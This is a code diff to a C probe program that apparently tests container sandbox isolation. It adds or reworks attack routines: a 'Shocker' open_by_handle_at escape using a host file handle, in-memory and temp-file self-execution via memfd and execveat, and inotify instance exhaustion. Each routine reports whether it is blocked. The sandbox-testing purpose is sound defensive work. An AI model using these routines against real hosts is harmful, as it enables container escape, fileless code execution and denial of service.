@@ -30,7 +30,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/inotify.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
@@ -46,6 +48,9 @@
 
 #ifndef UFFD_USER_MODE_ONLY
 #define UFFD_USER_MODE_ONLY 1
+#endif
+#ifndef MFD_EXEC
+#define MFD_EXEC 0x0010U
 #endif
 #ifndef KEY_SPEC_PROCESS_KEYRING
 #define KEY_SPEC_PROCESS_KEYRING -2
@@ -846,8 +851,9 @@ static void attack_chroot_escape(const char *arg)
     report("BLOCKED", "root=container");
 }
 
-/* "Shocker" (2014): open_by_handle_at with a forged handle for the root inode (2) of
- * the filesystem holding "/". ARG: DEV:INO of the host's "/". */
+/* "Shocker" (2014): open_by_handle_at opens any inode of a file system by its handle,
+ * also one outside the container's root, given a mount fd on the same file system.
+ * ARG: TYPE:HEX:DEV:INO, a handle taken on the host and the DEV:INO it must open. */
 static void attack_shocker(const char *arg)
 {
     unsigned long dev, ino;
@@ -855,24 +861,134 @@ static void attack_shocker(const char *arg)
         struct file_handle handle;
         unsigned char bytes[128];
     } buf;
-    int mount_id, mount_fd, fd;
+    char hex[260];
+    int type, mount_fd, fd;
+    unsigned int i;
     struct stat st;
-    if (sscanf(arg, "%lu:%lu", &dev, &ino) != 2)
+    if (sscanf(arg, "%d:%259[0-9a-f]:%lu:%lu", &type, hex, &dev, &ino) != 4 || strlen(hex) / 2 > sizeof buf.bytes)
         return report("BLOCKED", "errno=usage");
-    buf.handle.handle_bytes = sizeof buf.bytes;
-    if (name_to_handle_at(AT_FDCWD, "/", &buf.handle, &mount_id, 0) < 0)
-        return blocked_at("name_to_handle_at");
-    if (buf.handle.handle_bytes < 8)
-        return report("BLOCKED", "errno=handle");
-    /* ext4's handle (FILEID_INO32_GEN): inode number, generation. */
-    ((uint32_t *) buf.handle.f_handle)[0] = 2;
-    ((uint32_t *) buf.handle.f_handle)[1] = 0;
+    buf.handle.handle_type = type;
+    buf.handle.handle_bytes = strlen(hex) / 2;
+    for (i = 0; i < buf.handle.handle_bytes; i++)
+        sscanf(hex + 2 * i, "%2hhx", &buf.handle.f_handle[i]);
     mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     fd = syscall(SYS_open_by_handle_at, mount_fd, &buf.handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     if (fd < 0)
         return blocked_at("open_by_handle_at");
     fstat(fd, &st);
     report(st.st_dev == dev && st.st_ino == ino ? "OK" : "BLOCKED", "opened_ino=%lu", (unsigned long) st.st_ino);
+}
+
+/* -- executing what the container wrote ------------------------------------------------------ */
+
+/* The payload of write_exec: an exec'd copy of the probe reports that it ran. */
+static void attack_ran(const char *arg)
+{
+    report("OK", "ran=%s", arg);
+}
+
+/* memfd_secret has no write(2): size it and read into a shared mapping. */
+static int copy_self_mapped(int out, int in)
+{
+    struct stat st;
+    char *map;
+    ssize_t n = 0, got;
+    if (fstat(in, &st) < 0 || ftruncate(out, st.st_size) < 0)
+        return -1;
+    map = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, out, 0);
+    if (map == MAP_FAILED)
+        return -1;
+    while (n < st.st_size && (got = read(in, map + n, st.st_size - n)) > 0)
+        n += got;
+    munmap(map, st.st_size);
+    close(in);
+    return n == st.st_size ? 0 : -1;
+}
+
+static int copy_self(int out, int mapped)
+{
+    char buf[65536];
+    ssize_t n;
+    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+    if (in < 0)
+        return -1;
+    if (mapped)
+        return copy_self_mapped(out, in);
+    while ((n = read(in, buf, sizeof buf)) > 0)
+        if (write(out, buf, n) != n)
+            return -1;
+    close(in);
+    return n < 0 ? -1 : 0;
+}
+
+/* Write an executable (a copy of the probe) at run time and execute it. ARG: HOW[:DIR]
+ *   memfd         memfd_create(0), execveat(AT_EMPTY_PATH)
+ *   memfd_procfd  memfd_create(0), execve("/proc/self/fd/N")
+ *   memfd_exec    memfd_create(MFD_EXEC), execveat(AT_EMPTY_PATH)
+ *   memfd_secret  memfd_secret(0), execveat(AT_EMPTY_PATH)
+ *   tmpfile       open(DIR, O_TMPFILE), execveat(AT_EMPTY_PATH)
+ *   file          DIR/probe-payload, execve(path)
+ * The written fd is chmod 0755 and reopened read-only (exec refuses a file open for
+ * writing; memfd_secret cannot be reopened). OK comes from the payload itself; `chmod=` tells whether chmod worked. */
+static void attack_write_exec(const char *arg)
+{
+    char how[32] = "", path[256] = "", fd_path[64], spec[128];
+    const char *dir = strchr(arg, ':');
+    char *argv[] = {"probe", "--here", spec, NULL};
+    int fd, readonly, chmod_errno = 0;
+    snprintf(how, sizeof how, "%.*s", dir ? (int) (dir - arg) : (int) strlen(arg), arg);
+    snprintf(spec, sizeof spec, "%s=ran:%s", label, how);
+    if (strcmp(how, "memfd") == 0 || strcmp(how, "memfd_procfd") == 0)
+        fd = syscall(SYS_memfd_create, "payload", 0);
+    else if (strcmp(how, "memfd_exec") == 0)
+        fd = syscall(SYS_memfd_create, "payload", MFD_EXEC);
+    else if (strcmp(how, "memfd_secret") == 0)
+        fd = syscall(SYS_memfd_secret, 0);
+    else if (strcmp(how, "tmpfile") == 0 && dir)
+        fd = open(dir + 1, O_TMPFILE | O_RDWR, 0755);
+    else if (strcmp(how, "file") == 0 && dir) {
+        snprintf(path, sizeof path, "%s/probe-payload", dir + 1);
+        unlink(path);
+        fd = open(path, O_CREAT | O_EXCL | O_RDWR, 0755);
+    } else
+        return report("BLOCKED", "errno=usage");
+    if (fd < 0)
+        return blocked_at("create");
+    if (copy_self(fd, strcmp(how, "memfd_secret") == 0) < 0)
+        return blocked_at("write");
+    if (fchmod(fd, 0755) < 0)
+        chmod_errno = errno;
+    snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
+    if (strcmp(how, "memfd_secret") == 0)
+        readonly = fd;   /* cannot be reopened (ENXIO), nor written after its mapping */
+    else if ((readonly = open(fd_path, O_RDONLY | O_CLOEXEC)) < 0)
+        return blocked_at("reopen");
+    else
+        close(fd);
+    if (path[0])
+        execve(path, argv, environ);
+    else if (strcmp(how, "memfd_procfd") == 0) {
+        snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", readonly);
+        execve(fd_path, argv, environ);
+    } else
+        syscall(SYS_execveat, readonly, "", argv, environ, AT_EMPTY_PATH);
+    report("BLOCKED", "step=exec errno=%s chmod=%s", ename(errno), chmod_errno ? ename(chmod_errno) : "ok");
+}
+
+/* -- per-user kernel objects ----------------------------------------------------------------- */
+
+/* Open inotify instances until the kernel refuses, report how many, and hold them until
+ * stdin closes (the test checks meanwhile that the host can still open one). */
+static void attack_inotify_hold(const char *arg)
+{
+    char byte;
+    int count = 0;
+    (void) arg;
+    while (count < 1000000 && inotify_init1(IN_CLOEXEC) >= 0)
+        count++;
+    report("OK", "count=%d errno=%s", count, ename(errno));
+    while (read(0, &byte, 1) > 0)
+        ;
 }
 
 /* ----------------------------------------------------------------------------------------- */
@@ -897,6 +1013,7 @@ static const struct attack ATTACKS[] = {
     {"raw_socket", attack_raw_socket}, {"tiocsti", attack_tiocsti}, {"syscall", attack_syscall},
     {"chroot_escape", attack_chroot_escape}, {"unix_connect", attack_unix_connect},
     {"mount_proc", attack_mount_proc}, {"shocker", attack_shocker},
+    {"ran", attack_ran}, {"write_exec", attack_write_exec}, {"inotify_hold", attack_inotify_hold},
 };
 
 /* "LABEL=ATTACK:ARG" -> label, attack name, argument (the label defaults to the name). */
